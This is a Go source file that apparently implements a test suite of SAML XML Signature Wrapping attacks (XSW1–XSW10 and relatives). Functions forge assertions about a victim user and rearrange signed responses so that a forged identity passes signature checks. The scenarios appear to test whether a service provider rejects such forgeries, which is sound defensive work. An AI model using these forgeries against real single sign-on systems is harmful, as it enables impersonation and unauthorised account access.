package samlforge

import "github.com/beevik/etree"

// wrappingScenarios are the XSW attacks of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), in the
// numbering of SAML Raider, and their later relatives. In the encrypted mode the attacker has seen the assertion and
// encrypts the result again.
func wrappingScenarios() []Scenario {
	return refused(allModes(),
		row{"SAML-001", "XSW1: forged response, the original inside its signature", forged(func(doc *etree.Document, o *Options) {
			original, signature := split(doc)
			forgeRoot(doc, o)
			place(doc, signature)
			put(signature, original)
		})},
		row{"SAML-002", "XSW2: forged response, the original in front of its signature", forged(func(doc *etree.Document, o *Options) {
			original, signature := split(doc)
			forgeRoot(doc, o)
			place(doc, signature)
			insertBefore(signature, original)
		})},
		row{"SAML-003", "XSW3: forged assertion in front of the signed one", forged(func(doc *etree.Document, o *Options) {
			insertBefore(at(doc, "/Response/Assertion"), impostor(doc, o))
		})},
		row{"SAML-004", "XSW4: forged assertion around the signed one", forged(func(doc *etree.Document, o *Options) {
			original := at(doc, "/Response/Assertion")
			forgery := impostor(doc, o)
			replace(original, forgery)
			put(forgery, original)
		})},
		row{"SAML-005", "XSW5: signed assertion changed, the original at the end", forged(func(doc *etree.Document, o *Options) {
			original := unsigned(at(doc, "/Response/Assertion"))
			adopt(doc, o)
			put(doc.Root(), original)
		})},
		row{"SAML-006", "XSW6: signed assertion changed, the original inside its signature", forged(func(doc *etree.Document, o *Options) {
			original := unsigned(at(doc, "/Response/Assertion"))
			put(adopt(doc, o), original)
		})},
		row{"SAML-007", "XSW7: forged assertion in Extensions", forged(func(doc *etree.Document, o *Options) {
			insertBefore(at(doc, "/Response/Assertion"), put(element("samlp:Extensions"), impostor(doc, o)))
		})},
		row{"SAML-008", "XSW8: forged assertion with the signature, the original in its Object", forged(func(doc *etree.Document, o *Options) {
			original := unsigned(at(doc, "/Response/Assertion"))
			put(adopt(doc, o), put(element("ds:Object"), original))
		})},
		row{"SAML-009", "XSW8 with one ID for the forged and the original assertion", forged(func(doc *etree.Document, o *Options) {
			original := unsigned(at(doc, "/Response/Assertion"))
			put(adopt(doc, o), put(element("ds:Object"), original))
			at(doc, "/Response/Assertion").CreateAttr("ID", o.AssertionID)
		})},
		row{"SAML-010", "the ID of the assertion a second time, far away", signed(func(doc *etree.Document, o *Options) {
			extra := element("x:Thing", "xmlns:x", "urn:x", "ID", o.AssertionID)
			if o.Mode.encrypts() {
				insertAfter(at(doc, "/Response/Assertion/Conditions"), put(element("saml:Advice"), extra))
				return
			}
			insertAfter(at(doc, "/Response/Issuer"), put(element("samlp:Extensions"), extra))
		})},
		row{"SAML-010-response", "the ID of the response a second time, far away", signed(func(doc *etree.Document, o *Options) {
			insertAfter(at(doc, "/Response/Issuer"), put(element("samlp:Extensions"), element("x:Thing", "xmlns:x", "urn:x", "ID", o.ResponseID)))
		})},
		row{"SAML-011", "XSW10: unsigned assertion behind the signed one", forged(func(doc *etree.Document, o *Options) {
			insertAfter(at(doc, "/Response/Assertion"), impostor(doc, o))
		})},
		row{"SAML-012", "two signed assertions about two people", signed(func(doc *etree.Document, o *Options) {
			put(doc.Root(), assertion(*o, NewID(), o.Victim))
		})},
	)
}

// unsigned is a copy without the signature of the element itself.
func unsigned(el *etree.Element) *etree.Element {
	el = el.Copy()
	if signature := el.SelectElement("ds:Signature"); signature != nil {
		el.RemoveChild(signature)
	}
	return el
}

// signatureOf is the signature that a forgery reuses: that of the element, or else the other one.
func signatureOf(doc *etree.Document, first, second string) *etree.Element {
	if el := doc.FindElement(first + "/Signature"); el != nil {
		return el
	}
	return at(doc, second+"/Signature")
}

// split takes out the signature of the response, or that of the assertion if the response has none, and copies the
// element that it signs.
func split(doc *etree.Document) (original, signature *etree.Element) {
	signature = signatureOf(doc, "/Response", "/Response/Assertion")
	original = unsigned(signature.Parent())
	signature.Parent().RemoveChild(signature)
	return original, signature
}

// forgeRoot makes the document a response about the victim with nothing signed.
func forgeRoot(doc *etree.Document, o *Options) {
	drop(doc, "//Signature")
	doc.Root().CreateAttr("ID", NewID())
	replace(at(doc, "/Response/Assertion"), assertion(*o, NewID(), o.Victim))
}

// place puts a signature where one belongs in a response.
func place(doc *etree.Document, signature *etree.Element) {
	insertAfter(at(doc, "/Response/Issuer"), signature)
}

// impostor is an assertion about the victim. It takes away the signature of the response where the assertion has its own:
// that of the response would give the forgery away.
func impostor(doc *etree.Document, o *Options) *etree.Element {
	if o.Mode == SignBoth {
		drop(doc, "/Response/Signature")
	}
	return assertion(*o, NewID(), o.Victim)
}

// adopt puts an assertion about the victim in the place of the honest one, gives it the signature and returns that.
func adopt(doc *etree.Document, o *Options) *etree.Element {
	signature := signatureOf(doc, "/Response/Assertion", "/Response")
	signature.Parent().RemoveChild(signature)
	forgery := impostor(doc, o)
	replace(at(doc, "/Response/Assertion"), forgery)
	forgery.InsertChildAt(1, signature)
	return signature
}
